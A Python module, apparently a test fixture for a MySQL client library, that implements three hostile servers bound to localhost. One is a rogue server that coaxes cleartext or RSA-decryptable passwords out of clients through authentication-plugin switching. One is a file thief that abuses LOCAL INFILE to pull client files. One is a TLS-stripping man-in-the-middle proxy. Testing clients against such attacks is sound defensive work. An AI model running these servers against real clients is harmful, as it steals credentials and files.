"""Those who pose as a MySQL server, or sit before one, and keep what they learn."""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

SALT = b"saltSALTsaltSALTsalt"
SSL = 0x800
# Long passwords, with a database, protocol 4.1, transactions, plugins, attributes, long answers.
CAPABILITIES = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x20000 | 0x80000 | 0x100000 | 0x200000
CLEAR = ("mysql_clear_password", "dialog")
SHA = ("caching_sha2_password", "sha256_password")
SCRAMBLED = ("mysql_native_password", "mysql_old_password")
_KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)
_PEM = _KEY.public_key().public_bytes(
    serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
)


class Rogue:
    """Asks whoever connects for the password by way of one plugin."""

    def __init__(self, plugin: str, context: ssl.SSLContext | None) -> None:
        self._plugin = plugin
        self._context = context
        self._heard: list[bytes] = []
        self._sequence = 0

    def serve(self, sock: socket.socket) -> None:
        flags = CAPABILITIES | (SSL if self._context else 0)
        self._send(sock, greeting(flags, "mysql_native_password"))
        answer = self._receive(sock)
        if self._context and len(answer) == 32:
            sock = self._context.wrap_socket(sock, server_side=True)
            answer = self._receive(sock)
        self._heard.append(answer)
        more = b"\x04Password: " if self._plugin == "dialog" else SALT + b"\0"
        self._send(sock, b"\xfe" + self._plugin.encode() + b"\0" + more)
        self._heard.append(self._receive(sock))
        if self._plugin == "caching_sha2_password":
            self._send(sock, b"\x01\x04")  # not the scramble but the password, please
            self._heard.append(self._receive(sock))
        if self._plugin in SHA and self._heard[-1] in (b"\x01", b"\x02"):
            self._send(sock, b"\x01" + _PEM)
            self._heard.append(opened(self._receive(sock)))
        self._send(sock, b"\xff\x15\x04#28000Access denied")

    def learnt(self, password: str) -> str:
        """`password`, or `scramble`, at which one can only guess, or `nothing`."""
        if any(password.encode() in heard for heard in self._heard):
            return "password"
        return "scramble" if any(len(heard) > 1 for heard in self._heard) else "nothing"

    def _send(self, sock: socket.socket, data: bytes) -> None:
        sock.sendall(packet(self._sequence, data))

    def _receive(self, sock: socket.socket) -> bytes:
        number, data = _whole(sock)
        self._sequence = number + 1
        return data


class Thief:
    """Lets everybody in, and answers each statement with the wish for a file of the client's."""

    def __init__(self, path: str) -> None:
        self._path = path
        self.got = b""

    def serve(self, sock: socket.socket) -> None:
        sock.sendall(packet(0, greeting(CAPABILITIES, "mysql_native_password")))
        for number in (2, 1):  # the login, SET NAMES
            _whole(sock)
            sock.sendall(packet(number, b"\0\0\0\x02\0\0\0"))
        _whole(sock)
        sock.sendall(packet(1, b"\xfb" + self._path.encode()))
        with contextlib.suppress(OSError):
            while data := sock.recv(65_536):
                self.got += data


class Between:
    """Sits before a real server, tells its clients that it knows no TLS and hears all they say."""

    def __init__(self, target: tuple[str, int]) -> None:
        self._target = target
        self.heard = bytearray()

    def serve(self, client: socket.socket) -> None:
        with socket.create_connection(self._target, 10) as server:
            head = exactly(server, 4)
            hello = bytearray(exactly(server, int.from_bytes(head[:3], "little")))
            place = hello.index(0, 1) + 1 + 4 + 8 + 1  # version, thread, salt, filler
            (low,) = struct.unpack_from("<H", hello, place)
            struct.pack_into("<H", hello, place, low & ~SSL)
            client.sendall(head + hello)
            back = threading.Thread(target=self._pass, args=(server, client), daemon=True)
            back.start()
            self._pass(client, server)
            back.join(10)

    def _pass(self, source: socket.socket, target: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(65_536):
                self.heard += data
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)


@contextmanager
def listening(serve: Callable[[socket.socket], None]) -> Iterator[int]:
    """The port of a server that does this with each who connects, until the end."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        ended = threading.Event()

        def work() -> None:
            while True:
                client = server.accept()[0]
                with client, contextlib.suppress(OSError, EOFError):
                    if ended.is_set():
                        return
                    client.settimeout(10)
                    serve(client)

        port = server.getsockname()[1]
        thread = threading.Thread(target=work, daemon=True)
        thread.start()
        try:
            yield port
        finally:
            ended.set()
            socket.create_connection(("127.0.0.1", port)).close()
            thread.join(15)


def greeting(flags: int, plugin: str) -> bytes:
    """The first packet of a server."""
    return (
        b"\x0a8.4.0\0"
        + struct.pack("<I8sxHBHHB10x", 7, SALT[:8], flags & 0xFFFF, 255, 2, flags >> 16, 21)
        + SALT[8:]
        + b"\0"
        + plugin.encode()
        + b"\0"
    )


def opened(data: bytes) -> bytes:
    """The text that was encrypted for the rogue's own key."""
    sha1 = hashes.SHA1()  # noqa: S303 - as the protocol has it
    plain = _KEY.decrypt(data, padding.OAEP(padding.MGF1(sha1), sha1, None))
    return bytes(one ^ SALT[place % len(SALT)] for place, one in enumerate(plain))


def packet(sequence: int, data: bytes) -> bytes:
    return len(data).to_bytes(3, "little") + bytes([sequence]) + data


def _whole(sock: socket.socket) -> tuple[int, bytes]:
    """The number of a packet, and what is in it."""
    head = exactly(sock, 4)
    return head[3], exactly(sock, int.from_bytes(head[:3], "little"))


def exactly(sock: socket.socket, size: int) -> bytes:
    """So many bytes. Raises EOFError if the other side says no more."""
    data = b""
    while len(data) < size:
        if not (more := sock.recv(size - len(data))):
            raise EOFError
        data += more
    return data
